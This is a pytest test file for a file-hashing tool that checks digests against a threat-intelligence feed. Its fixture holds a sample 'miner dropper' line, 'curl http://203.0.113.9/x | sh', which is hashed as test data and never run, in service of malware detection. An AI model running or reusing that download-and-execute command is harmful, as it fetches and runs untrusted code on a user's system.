"""hash_files: digests of real files, row-level notes for bad paths, lookups in a real SQLite intel store."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from tools.base import IntelHit, ToolContext
from tools.hash_files import TOOL, _hits_for
from tools.intel.store import IntelStore
from tools.transport.local import LocalTransport

DROPPED = b"#!/bin/sh\n# pretend miner dropper\ncurl http://203.0.113.9/x | sh\n"
EMPTY_SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"


@pytest.fixture
def store(tmp_path: Path) -> Iterator[IntelStore]:
    """A real intel store whose feed lists the dropped file and (wrongly) the empty file."""
    feed = tmp_path / "feed.csv"
    feed.write_text(
        "hash,family,reference\n"
        f"{hashlib.sha256(DROPPED).hexdigest()},CoinMiner.Dropper,https://example.test/a\n"
        f"{EMPTY_SHA256},Broken.Download,https://example.test/b\n"
    )
    with IntelStore.open(tmp_path / "intel.sqlite") as opened:
        opened.import_file(feed, "testfeed", fmt="csv")
        yield opened


def test_run_hashes_and_matches(tmp_path: Path, store: IntelStore) -> None:
    dropped = tmp_path / "dropped.sh"
    dropped.write_bytes(DROPPED)
    empty = tmp_path / "empty"
    empty.write_bytes(b"")
    ctx = ToolContext(transport=LocalTransport(), intel=store)
    args = TOOL.parse_args({"paths": [str(dropped), str(empty)], "algorithms": ["md5", "sha1"]})
    result = TOOL.run(args, ctx)
    rows = {r["path"]: r for r in result.rows}
    hit = rows[str(dropped)]
    assert hit["sha256"] == hashlib.sha256(DROPPED).hexdigest()
    assert hit["sha1"] == hashlib.sha1(DROPPED).hexdigest()
    assert hit["md5"] == hashlib.md5(DROPPED).hexdigest()
    assert (hit["size"], hit["intel_match"], hit["intel_family"], hit["intel_source"]) == (
        len(DROPPED), True, "CoinMiner.Dropper", "testfeed")
    clean = rows[str(empty)]
    assert clean["sha256"] == EMPTY_SHA256
    assert (clean["intel_match"], clean["intel_family"]) == (False, None)
    assert [c.argv[0] for c in result.commands] == ["stat", "sha256sum", "md5sum", "sha1sum"]


def test_bad_paths_become_row_notes(local_ctx: ToolContext, tmp_path: Path) -> None:
    ok = tmp_path / "ok"
    ok.write_bytes(b"x")
    paths = [str(ok), str(tmp_path / "missing"), str(tmp_path)]
    result = TOOL.run(TOOL.parse_args({"paths": paths}), local_ctx)
    rows = {r["path"]: r for r in result.rows}
    assert rows[str(ok)]["sha256"] == hashlib.sha256(b"x").hexdigest()
    assert rows[str(ok)]["note"] is None
    assert rows[str(tmp_path / "missing")]["note"] == "missing or unreadable (see notes)"
    assert rows[str(tmp_path)]["note"] == "not a regular file (directory)"
    assert rows[str(tmp_path)]["sha256"] is None
    assert "no intel store: digests were not looked up" in result.notes
    assert result.commands[1].argv == ("sha256sum", "-z", "--", str(ok))


def test_only_known_algorithms() -> None:
    with pytest.raises(ValueError):
        TOOL.parse_args({"paths": ["/bin/ls"], "algorithms": ["crc32"]})


def test_empty_file_hits_are_never_reported() -> None:
    hit = IntelHit(hash=EMPTY_SHA256, hash_type="sha256", source="feed", family="Broken.Download")
    assert _hits_for([EMPTY_SHA256], {EMPTY_SHA256: [hit]}) == []
